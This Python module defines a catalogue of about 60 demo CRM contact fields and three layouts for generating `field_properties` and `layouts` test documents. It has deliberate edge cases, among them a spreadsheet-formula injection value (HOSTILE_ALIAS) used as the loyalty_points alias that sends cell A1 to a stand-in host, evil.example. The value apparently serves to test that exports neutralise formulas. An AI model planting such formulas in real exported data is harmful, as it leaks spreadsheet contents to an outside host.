"""The fields and layouts of the demo companies: one catalogue of some 60 fields over every field type.

Belongs here: `layouts` and `field_properties` documents (SPEC 1.1). Not here: how a value of a field is made
(`demo_values.py`) and which companies there are (`demo_companies.py`).
"""

from collections.abc import Iterator
from typing import Any, Final, Literal, NamedTuple, TypeAlias

FieldGroup: TypeAlias = Literal["customer_info", "default", "custom"]

HOSTILE_ALIAS: Final = '=HYPERLINK("https://evil.example/?q="&A1,"Poin loyalitas")'


class DemoField(NamedTuple):
    """One field: its description for `field_properties` and how often (`fill`, 0 to 1) a contact has it.

    `maker` names the value maker in `demo_values.MAKERS`; custom fields live in `custom_fields[]`, the others at the
    contact's top level. `hidden` fields are hidden in every layout.
    """

    name: str
    alias: str
    field_type: str
    group: FieldGroup
    maker: str
    fill: float
    number_type: str | None = None
    hidden: bool = False

    @property
    def is_default(self) -> bool:
        """Whether the value stands at the contact's top level."""
        return self.group != "custom"


_INFO: Final = "customer_info"
_DEFAULT: Final = "default"
_CUSTOM: Final = "custom"

TOP_LEVEL_FIELDS: Final[tuple[DemoField, ...]] = (
    DemoField("name", "Nama pelanggan", "single_line_text", _INFO, "name", 0.99),
    DemoField("email", "Email", "email", _INFO, "email", 0.85),
    DemoField("phone", "Nomor telepon", "phone", _INFO, "phone", 0.92),
    DemoField("gender", "Jenis kelamin", "dropdown_select", _INFO, "gender", 0.7),
    DemoField("birth_date", "Tanggal lahir", "date", _INFO, "birthday", 0.65),
    DemoField("address", "Alamat", "text_area", _INFO, "address", 0.75),
    DemoField("city", "Kota", "single_line_text", _INFO, "city", 0.85),
    DemoField("country", "Negara", "dropdown_select", _INFO, "country", 0.9),
    DemoField("avatar", "Foto profil", "upload", _INFO, "file_url", 0.4),
    DemoField("is_subscribed", "Berlangganan", "bool", _INFO, "bool", 0.9),
    DemoField("external_ref", "ID eksternal", "default", _DEFAULT, "reference", 0.8),
    DemoField("company_name", "Perusahaan", "single_line_text", _DEFAULT, "company", 0.6),
    DemoField("job_title", "Jabatan", "single_line_text", _DEFAULT, "job", 0.55),
    DemoField("source", "Sumber", "dropdown_select", _DEFAULT, "source", 0.97),
    DemoField("created_at", "Dibuat pada", "date", _DEFAULT, "created_at", 1.0),
    DemoField("updated_at", "Diperbarui pada", "date", _DEFAULT, "updated_at", 1.0),
    DemoField("crm_data", "Data CRM", "default", _DEFAULT, "crm_data", 0.93, hidden=True),
)

CUSTOM_FIELDS: Final[tuple[DemoField, ...]] = (
    DemoField("nickname", "Panggilan 😊", "single_line_text", _CUSTOM, "nickname", 0.6),
    DemoField("furigana", "フリガナ", "single_line_text", _CUSTOM, "furigana", 0.2),
    DemoField("member_no", "No. anggota", "single_line_text", _CUSTOM, "zero_padded", 0.8),
    DemoField("tax_id", "NPWP", "single_line_text", _CUSTOM, "tax_id", 0.4),
    DemoField("referral_code", "Kode referral", "single_line_text", _CUSTOM, "code", 0.5),
    DemoField("favourite_store", "お気に入りの店", "single_line_text", _CUSTOM, "city", 0.45),
    DemoField("favourite_drink", "☕ Minuman favorit", "single_line_text", _CUSTOM, "drink", 0.5),
    DemoField("shoe_size", "Größe", "single_line_text", _CUSTOM, "size", 0.3),
    DemoField("remarks", "Catatan", "text_area", _CUSTOM, "paragraph", 0.55),
    DemoField("last_complaint", "الملاحظات", "text_area", _CUSTOM, "paragraph", 0.2),
    DemoField("shipping_address", "Alamat pengiriman", "text_area", _CUSTOM, "address", 0.6),
    DemoField("agent_notes", "Catatan", "text_area", _CUSTOM, "sentence", 0.35),
    DemoField("segment", "Segmen", "dropdown_select", _CUSTOM, "segment", 0.9),
    DemoField("membership_tier", "Tingkat keanggotaan", "dropdown_select", _CUSTOM, "tier", 0.8),
    DemoField("lead_status", "Status prospek", "dropdown_select", _CUSTOM, "lead_status", 0.7),
    DemoField("preferred_language", "Bahasa, pilihan", "dropdown_select", _CUSTOM, "language", 0.75),
    DemoField("website", "Situs web", "url", _CUSTOM, "url", 0.35),
    DemoField("instagram_url", 'Instagram "resmi"', "url", _CUSTOM, "social_url", 0.4),
    DemoField("id_card_file", "Berkas KTP", "upload", _CUSTOM, "file_url", 0.25),
    DemoField("contract_file", "Kontrak", "upload", _CUSTOM, "file_url", 0.2),
    DemoField("consent_signature", "Tanda tangan", "signature", _CUSTOM, "file_url", 0.3),
    DemoField("legacy_code", "Kode lama", "default", _CUSTOM, "reference", 0.3),
    DemoField("total_orders", "Jumlah pesanan", "number", _CUSTOM, "count", 0.9, "number"),
    DemoField("loyalty_points", HOSTILE_ALIAS, "number", _CUSTOM, "points", 0.8, "number"),
    DemoField("satisfaction", "Kepuasan (1–5)", "number", _CUSTOM, "score", 0.5, "number"),
    DemoField("balance_units", "Saldo unit", "number", _CUSTOM, "decimal", 0.4, "number"),
    DemoField("discount_rate", "Diskon", "number", _CUSTOM, "percentage", 0.6, "percentage"),
    DemoField("churn_risk", "Risiko churn", "number", _CUSTOM, "percentage", 0.5, "percentage"),
    DemoField("lifetime_value", "Nilai seumur hidup", "number", _CUSTOM, "money_idr", 0.85, "currency"),
    DemoField("last_order_value", "Nilai pesanan terakhir", "number", _CUSTOM, "money_idr", 0.7, "currency"),
    DemoField("credit_limit", "Batas kredit", "number", _CUSTOM, "money_usd", 0.3, "currency"),
    DemoField("deposit", "Deposito", "number", _CUSTOM, "money_jpy", 0.25, "currency"),
    DemoField("anniversary", "Hari jadi", "date", _CUSTOM, "day_text", 0.3),
    DemoField("contract_start", "Mulai kontrak", "date", _CUSTOM, "day", 0.35),
    DemoField("last_visit", "Kunjungan terakhir", "date", _CUSTOM, "day", 0.6),
    DemoField("last_login", "Login terakhir", "date_time", _CUSTOM, "instant", 0.5),
    DemoField("interests", "Minat", "multiple_select", _CUSTOM, "interests", 0.65),
    DemoField("channels", "Kanal", "multiple_select", _CUSTOM, "channels", 0.6),
    DemoField("tags", "Label", "multiple_select", _CUSTOM, "tags", 0.5),
    DemoField("home_location", "Lokasi rumah", "gps", _CUSTOM, "gps", 0.4),
    DemoField("delivery_point", "Titik antar", "gps", _CUSTOM, "gps", 0.3),
    DemoField("whatsapp_opt_in", "Setuju WhatsApp", "bool", _CUSTOM, "bool", 0.85),
    DemoField("vip", "VIP", "bool", _CUSTOM, "bool", 0.7),
    DemoField("billing_email", "Email penagihan", "email", _CUSTOM, "email", 0.3),
    DemoField("whatsapp_number", "Nomor WhatsApp", "phone", _CUSTOM, "phone", 0.8),
    DemoField("office_phone", "Telepon kantor", "phone", _CUSTOM, "office_phone", 0.3),
    # A type that the exporter has never heard of: services add types before this project learns them.
    DemoField("mood", "Suasana hati", "emotion_slider", _CUSTOM, "mood", 0.4),
    DemoField("unnamed_field", "", "single_line_text", _CUSTOM, "code", 0.1),
    DemoField("ktp_number", "Nomor KTP", "single_line_text", _CUSTOM, "national_id", 0.7, hidden=True),
    DemoField("fraud_note", "Catatan penipuan", "text_area", _CUSTOM, "secret_note", 0.3, hidden=True),
    DemoField("internal_score", "Skor internal", "number", _CUSTOM, "score", 0.6, "number", hidden=True),
)

FIELDS: Final[tuple[DemoField, ...]] = TOP_LEVEL_FIELDS + CUSTOM_FIELDS
HIDDEN_FIELDS: Final[tuple[str, ...]] = tuple(field.name for field in FIELDS if field.hidden)


class DemoLayout(NamedTuple):
    """A layout: its fields in order, and those hidden in it besides the ones hidden everywhere."""

    key: str
    name: str
    is_default: bool
    fields: tuple[DemoField, ...]
    also_hidden: frozenset[str] = frozenset()


_COMPACT_NAMES: Final = frozenset(
    {"name", "phone", "email", "city", "source", "segment", "lifetime_value", "last_visit", "vip", "ktp_number"}
)

LAYOUTS: Final[tuple[DemoLayout, ...]] = (
    DemoLayout("default", "Default view", True, FIELDS),
    DemoLayout(
        "sales",
        "Tampilan Penjualan",
        False,
        tuple(reversed(FIELDS)),
        frozenset({"email", "billing_email", "birth_date", "credit_limit", "last_complaint"}),
    ),
    DemoLayout("compact", "Ringkas / 簡易", False, tuple(field for field in FIELDS if field.name in _COMPACT_NAMES)),
)


def layout_id(company_slug: str, layout_key: str) -> str:
    """The `_id` of a demo company's layout."""
    return f"layout-{company_slug}-{layout_key}"


def layout_documents(company_slug: str, company_sso_id: str) -> list[dict[str, Any]]:
    """The company's `layouts` documents, exactly one of them the default."""
    return [
        {
            "_id": layout_id(company_slug, layout.key),
            "company_sso_id": company_sso_id,
            "name": layout.name,
            "is_default": layout.is_default,
        }
        for layout in LAYOUTS
    ]


def field_property_documents(company_slug: str, company_sso_id: str) -> Iterator[dict[str, Any]]:
    """The company's `field_properties` documents, one for each layout and field."""
    for layout in LAYOUTS:
        for position, field in enumerate(layout.fields, start=1):
            yield field_property(
                field,
                company_sso_id=company_sso_id,
                layout=layout_id(company_slug, layout.key),
                position=position,
                is_hidden=field.hidden or field.name in layout.also_hidden,
            )


def field_property(
    field: DemoField, *, company_sso_id: str, layout: str, position: int, is_hidden: bool
) -> dict[str, Any]:
    """One `field_properties` document as SPEC 1.1 has it; `position` counts from 1."""
    return {
        "_id": f"{layout}:{field.name}",
        "company_sso_id": company_sso_id,
        "layout_id": layout,
        "name": field.name,
        "name_alias": field.alias,
        "field_type": field.field_type,
        "type": field.group,
        "is_default": field.is_default,
        "is_hidden": is_hidden,
        "position": position,
        "validation": {"number": {"number_type": field.number_type}} if field.number_type else {},
    }
